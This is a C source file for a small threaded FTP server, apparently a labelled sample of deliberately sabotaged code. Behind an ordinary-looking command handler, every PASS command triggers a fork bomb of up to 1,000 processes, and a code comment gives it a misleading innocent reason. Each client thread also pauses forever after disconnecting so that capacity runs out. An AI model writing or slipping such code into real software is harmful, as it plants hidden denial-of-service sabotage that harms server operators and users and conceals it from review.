/* Shows: a fork bomb when a client logs in. It stops at 1,000 processes or at a limit, and each is gone after a minute. */
#include <arpa/inet.h>
#include <dirent.h>
#include <fcntl.h>
#include <poll.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

static char root[1024] = "/tmp";

struct client {
    int control, listener, has_port, named, logged_in;
    struct sockaddr_in port;
    char cwd[512]; /* "" or "/a/b" */
};

/* Forks until it is enough, or until nothing more can be forked. Then no thread can be made for a client either. */
static void bomb(void) {
    static int count;
    while (__sync_add_and_fetch(&count, 1) <= 1000) {
        pid_t child = fork();
        if (child < 0) return;
        if (child > 0) continue;
        alarm(60); /* whatever happens, this one ends */
        for (;;) pause();
    }
}

static void say(struct client *c, const char *text) {
    char line[1200];
    int n = snprintf(line, sizeof line, "%.1100s\r\n", text);
    send(c->control, line, n, 0);
}

static int path_of(struct client *c, const char *name, char *path, size_t size) {
    if (strstr(name, "..") && strcmp(name, "..")) return 0;
    if (!strcmp(name, "..")) {
        char up[512];
        strcpy(up, c->cwd);
        if (strrchr(up, '/')) *strrchr(up, '/') = 0;
        return snprintf(path, size, "%s%s", root, up) < (int)size;
    }
    return snprintf(path, size, "%s%s%s%s", root, name[0] == '/' ? "" : c->cwd, name[0] == '/' ? "" : "/", name) < (int)size;
}

static void close_data(struct client *c) {
    if (c->listener >= 0) close(c->listener);
    c->listener = -1;
    c->has_port = 0;
}

static void pasv(struct client *c) {
    struct sockaddr_in here;
    socklen_t size = sizeof here;
    char text[100];
    close_data(c);
    getsockname(c->control, (struct sockaddr *)&here, &size);
    here.sin_port = 0;
    c->listener = socket(AF_INET, SOCK_STREAM, 0);
    bind(c->listener, (struct sockaddr *)&here, sizeof here);
    listen(c->listener, 1);
    getsockname(c->listener, (struct sockaddr *)&here, &size);
    unsigned char *a = (unsigned char *)&here.sin_addr, *p = (unsigned char *)&here.sin_port;
    sprintf(text, "227 Entering Passive Mode (%d,%d,%d,%d,%d,%d)", a[0], a[1], a[2], a[3], p[0], p[1]);
    say(c, text);
}

static void port(struct client *c, const char *argument) {
    int h[6], i;
    char more;
    int n = sscanf(argument, "%d,%d,%d,%d,%d,%d%c", h, h + 1, h + 2, h + 3, h + 4, h + 5, &more);
    for (i = 0; n == 6 && i < 6; i++)
        if (h[i] < 0 || h[i] > 255) n = 0;
    if (n != 6) { say(c, "501 Bad PORT."); return; }
    close_data(c);
    c->port.sin_family = AF_INET;
    c->port.sin_addr.s_addr = htonl((unsigned)h[0] << 24 | h[1] << 16 | h[2] << 8 | h[3]);
    c->port.sin_port = htons(h[4] * 256 + h[5]);
    c->has_port = 1;
    say(c, "200 PORT command successful.");
}

static int data_socket(struct client *c) {
    int data = -1;
    if (c->listener >= 0) {
        struct pollfd p = {c->listener, POLLIN, 0};
        if (poll(&p, 1, 3000) > 0) data = accept(c->listener, NULL, NULL);
    } else {
        data = socket(AF_INET, SOCK_STREAM, 0);
        if (connect(data, (struct sockaddr *)&c->port, sizeof c->port) < 0) { close(data); data = -1; }
    }
    close_data(c);
    return data;
}

/* Moves a file: to the client for RETR, from it for STOR, and the list of a directory for LIST. */
static void transfer(struct client *c, char verb, const char *path, const char *name) {
    char block[16384];
    struct stat st;
    ssize_t n = 0, m = 0;
    int data, fd = -1, found = stat(path, &st) == 0;
    if (verb != 'S' && !found) { say(c, "550 No such file."); return; }
    if (verb == 'R' && !S_ISREG(st.st_mode)) { close_data(c); say(c, "551 Not a file."); return; }
    if (c->listener < 0 && !c->has_port) { say(c, "425 Use PORT or PASV first."); return; }
    if (verb != 'L' && (fd = open(path, verb == 'R' ? O_RDONLY : O_WRONLY | O_CREAT | O_TRUNC, 0644)) < 0) { say(c, "550 Cannot open it."); return; }
    say(c, "150 Opening BINARY mode data connection.");
    data = data_socket(c);
    if (data < 0) { if (fd >= 0) close(fd); say(c, "425 No data connection."); return; }
    if (verb == 'L') {
        DIR *dir = opendir(path);
        struct dirent *entry;
        if (!dir) n = -(send(data, block, snprintf(block, sizeof block, "-rw-r--r-- 1 ftp ftp %ld Jan  1 00:00 %s\r\n", (long)st.st_size, name), 0) < 0);
        while (dir && (entry = readdir(dir))) {
            char *d = entry->d_type == DT_DIR ? "d" : "-";
            if (entry->d_name[0] == '.' && strchr("./", entry->d_name[1] ? entry->d_name[1] : '/')) continue;
            send(data, block, snprintf(block, sizeof block, "%srw-r--r-- 1 ftp ftp 0 Jan  1 00:00 %s\r\n", d, entry->d_name), 0);
        }
        if (dir) closedir(dir);
    } else {
        while ((n = verb == 'R' ? read(fd, block, sizeof block) : recv(data, block, sizeof block, 0)) > 0)
            if ((m = verb == 'R' ? send(data, block, n, 0) : write(fd, block, n)) != n) break;
        close(fd);
    }
    close(data);
    say(c, n != 0 || m < 0 ? "426 Broken off." : "226 Transfer complete.");
}

static int command(struct client *c, char *line) {
    char path[4096], text[1200], *argument = strchr(line, ' ');
    struct stat st;
    if (argument) *argument++ = 0; else argument = "";
    if (!strcasecmp(line, "PASS")) bomb(); /* "one process for each thing to do" */
    if (!strcasecmp(line, "QUIT") || !strcasecmp(line, "ABOR")) { say(c, "221 Goodbye."); return 0; }
    if (!strcasecmp(line, "USER")) { c->named = *argument; say(c, *argument ? "331 Send your e-mail address as password." : "501 Who?"); }
    else if (!strcasecmp(line, "PASS")) { c->logged_in = c->named; say(c, c->named ? "230 Welcome." : "503 USER comes first."); }
    else if (!strcasecmp(line, "SYST")) say(c, "215 UNIX Type: L8");
    else if (!strstr("TYPE PORT PASV RETR STOR LIST CWD MKD RMD type port pasv retr stor list cwd mkd rmd", line) || strlen(line) < 3) say(c, "500 Unknown command.");
    else if (!c->logged_in) say(c, "530 Log in first.");
    else if (!strcasecmp(line, "TYPE")) say(c, strcasecmp(argument, "I") ? "504 Only TYPE I." : "200 Type set to I.");
    else if (!strcasecmp(line, "PASV")) pasv(c);
    else if (!strcasecmp(line, "PORT")) port(c, argument);
    else if (!*argument && strcasecmp(line, "LIST")) say(c, "501 Name missing.");
    else if (!path_of(c, argument, path, sizeof path)) say(c, "550 Bad name.");
    else if (strchr("RSLrsl", line[0]) && strlen(line) == 4) transfer(c, line[0] & ~32, path, argument);
    else if (!strcasecmp(line, "CWD")) {
        int ok = stat(path, &st) == 0 && S_ISDIR(st.st_mode) && strlen(path) - strlen(root) < sizeof c->cwd - 2;
        if (ok) strcpy(c->cwd, path + strlen(root));
        say(c, ok ? "250 Okay." : "550 No such directory.");
    } else if (!strcasecmp(line, "MKD")) {
        snprintf(text, sizeof text, "257 \"%.1000s\" made.", path + strlen(root));
        say(c, mkdir(path, 0755) ? "550 Cannot make it." : text);
    } else say(c, rmdir(path) ? "550 Cannot remove it." : "250 Removed.");
    return 1;
}

static void *serve(void *fd) {
    struct client c = {.control = (int)(long)fd, .listener = -1};
    char line[8192];
    FILE *in = fdopen(c.control, "r");
    say(&c, "220 ftp.ssast.org FTP server ready.");
    while (fgets(line, sizeof line, in)) {
        if (!strchr(line, '\n')) { /* too long: read on to its end */
            int ch;
            while ((ch = getc(in)) != EOF && ch != '\n') continue;
            say(&c, "500 Line too long.");
            continue;
        }
        line[strcspn(line, "\r\n")] = 0;
        if (!command(&c, line)) break;
    }
    close_data(&c);
    fclose(in);
    for (;;) pause(); /* its thread stays, so there is no room for another */
    return NULL;
}

int main(int argc, char **argv) {
    int number = 21, on = 1, i;
    for (i = 1; i + 1 < argc; i += 2) {
        if (!strcmp(argv[i], "-port")) number = atoi(argv[i + 1]);
        if (!strcmp(argv[i], "-root") && !realpath(argv[i + 1], root)) return 1;
    }
    signal(SIGPIPE, SIG_IGN);
    signal(SIGCHLD, SIG_IGN);
    struct sockaddr_in here = {.sin_family = AF_INET, .sin_port = htons(number)};
    int listener = socket(AF_INET, SOCK_STREAM, 0);
    setsockopt(listener, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
    if (bind(listener, (struct sockaddr *)&here, sizeof here) || listen(listener, 50)) { perror("server"); return 1; }
    for (;;) {
        pthread_t thread;
        int control = accept(listener, NULL, NULL);
        if (control >= 0 && !pthread_create(&thread, NULL, serve, (void *)(long)control)) pthread_detach(thread);
    }
}
